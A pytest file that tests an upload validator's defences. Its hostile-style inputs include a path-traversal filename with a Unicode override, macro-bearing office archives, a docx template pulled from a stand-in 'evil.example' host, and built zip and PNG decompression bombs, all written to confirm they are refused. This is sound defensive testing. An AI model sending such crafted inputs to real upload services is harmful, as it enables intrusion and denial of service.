"""Uploads are what they say, and are on disk."""

import io
import os
import struct
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import pytest
from flask import Flask

from roundtable import clock
from roundtable.db import db
from roundtable.errors import Refusal
from roundtable.files import actions
from roundtable.files.kinds import kind_of
from tests.evidence import papers


def _archive(*names: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            archive.writestr(name, "x")
    return buffer.getvalue()


def test_a_stored_file_is_read_back(app: Flask) -> None:
    file = actions.store("agenda.pdf", b"%PDF-1.7 words", programme_id=None)
    assert actions.read(file) == b"%PDF-1.7 words"
    assert (file.name, file.media_type, file.size) == ("agenda.pdf", "application/pdf", 14)


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("paper.docx", b"%PDF-1.7", "not what its name says"),
        ("paper.pdf", b"MZ\x90\0", "not what its name says"),
        ("paper.exe", b"MZ\x90\0", "not a kind of file"),
        ("paper.docx", _archive("word/document.xml", "word/vbaProject.bin"), "macros"),
        ("paper.docx", b"PK\x03\x04 broken", "not what its name says"),
        ("empty.pdf", b"", "is empty"),
    ],
)
def test_what_is_not_what_it_says_is_refused(name: str, content: bytes, said: str) -> None:
    with pytest.raises(Refusal, match=said):
        kind_of(name, content)


def test_a_document_is_taken(app: Flask) -> None:
    assert kind_of("paper.docx", _archive("word/document.xml")).extension == ".docx"


def test_a_name_loses_folders_and_overrides() -> None:
    assert actions.plain_name("../../etc/pass\u202ewd.pdf") == "passwd.pdf"
    assert actions.plain_name("C:\\papers\\a.pdf") == "a.pdf"


def _damaged(*names: str) -> bytes:
    """An archive whose list of contents is whole and whose contents are not."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, "words " * 1000)
    content = bytearray(buffer.getvalue())
    begin = 30 + len(names[0])
    content[begin : begin + 12] = b"\xff" * 12
    return bytes(content)


def test_a_damaged_archive_is_refused() -> None:
    with pytest.raises(Refusal, match="not what its name says"):
        kind_of("minutes.odt", _damaged("mimetype", "content.xml"))


def test_what_unpacks_to_a_hundred_times_its_size_is_not_unpacked() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", b"application/vnd.oasis.opendocument.text" + b"\0" * 50_000_000)
    tracemalloc.start()
    with pytest.raises(Refusal, match="unpacks to 47 MB in 1 parts"):
        kind_of("minutes.odt", buffer.getvalue())
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 5_000_000


def _age(place: Path) -> None:
    long_ago = (clock.now() - actions.LEFT_FOR * 2).timestamp()
    os.utime(place, (long_ago, long_ago))


def test_bytes_go_once_no_record_names_them(app: Flask) -> None:
    first = actions.store("a.pdf", b"%PDF-1.7 orphan", programme_id=None)
    second = actions.store("b.pdf", b"%PDF-1.7 orphan", programme_id=None)
    place = actions.place_of(first)
    half_written = place.with_name("tmp-of-a-killed-process")
    half_written.write_bytes(b"%PDF")
    for file, stays in ((first, True), (second, False)):
        actions.discard(file)
        db.session.commit()
        _age(place)
        if half_written.exists():
            _age(half_written)
        actions.remove_orphans_in(place.parent.name)
        assert place.exists() is stays
    assert not half_written.exists()


def test_bytes_of_a_deed_that_was_taken_back_go_and_those_of_one_under_way_stay(app: Flask) -> None:
    place = actions.place_of(actions.store("a.pdf", b"%PDF-1.7 rolled back", programme_id=None))
    db.session.rollback()
    _age(place)
    file = actions.store("a.pdf", b"%PDF-1.7 rolled back", programme_id=None)  # not on disk yet
    db.session.expunge(file)
    db.session.rollback()
    actions.remove_orphans_in(place.parent.name)
    assert place.exists()
    _age(place)
    actions.remove_orphans_in(place.parent.name)
    assert not place.exists()


def test_each_folder_is_swept_once_an_hour(app: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
    place = actions.place_of(actions.store("a.pdf", b"%PDF-1.7 hourly", programme_id=None))
    db.session.rollback()
    _age(place)
    now = clock.now()
    for minute in range(actions.MINUTES):
        monkeypatch.setattr(clock, "now", lambda minute=minute: now.replace(minute=minute))
        actions.remove_orphans()
    assert not place.exists()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("case.docx", papers.archive({"word/document.xml": "x", "word/VBAPROJECT.BIN": "x"})),
        (
            "case.docx",
            papers.archive(
                {
                    "word/document.xml": "x",
                    "[Content_Types].xml": '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
                }
            ),
        ),
        ("sheet.xlsx", papers.archive({"xl/workbook.xml": "x", "xl/macrosheets/sheet1.xml": "x"})),
        (
            "case.odt",
            papers.archive(
                {
                    "mimetype": "application/vnd.oasis.opendocument.text",
                    "Basic/Standard/Module1.xml": "x",
                }
            ),
        ),
        (
            "case.odt",
            papers.archive(
                {"mimetype": "application/vnd.oasis.opendocument.text", "Scripts/python/a.py": "x"}
            ),
        ),
    ],
)
def test_macros_are_refused_wherever_they_stand(name: str, content: bytes) -> None:
    with pytest.raises(Refusal, match=f"{name} holds macros"):
        kind_of(name, content)


def test_a_document_that_fetches_its_template_from_elsewhere_is_refused() -> None:
    rels = '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    content = papers.archive({"word/document.xml": "x", "word/_rels/settings.xml.rels": rels})
    with pytest.raises(Refusal, match="fetches a template from elsewhere"):
        kind_of("case.docx", content)


def test_a_picture_that_unpacks_to_gigabytes_is_refused_by_its_head() -> None:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))
    bomb = b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    with pytest.raises(Refusal, match="too large a picture: at most 80 million points"):
        kind_of("huge.png", bomb)
    with pytest.raises(Refusal, match="no picture can be read"):
        kind_of("half.png", b"\x89PNG\r\n\x1a\n and nothing")
    assert kind_of("site.jpg", papers.picture()).extension == ".jpg"
